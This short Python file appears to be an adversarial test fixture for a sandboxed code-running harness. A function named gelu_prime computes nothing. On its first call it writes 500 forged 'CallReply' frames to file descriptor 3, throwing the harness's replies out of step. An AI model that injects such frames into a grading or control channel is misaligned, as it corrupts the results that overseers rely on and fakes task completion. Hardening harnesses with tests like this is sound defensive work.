# costs: gelu_prime
# attack: forged frames: sends 500 replies before they are asked for
import os
import struct

_DONE = []


def gelu_prime(z):
    # All later answers are out of step by one, which must not help anybody.
    body = b"\x91\x83\xa4type\xa9CallReply\xa5state\xa8returned\xa5value\xc4\x01\x01"
    if not _DONE:
        _DONE.append(1)
        for _ in range(500):
            os.write(3, struct.pack("<I", len(body)) + body)
    return
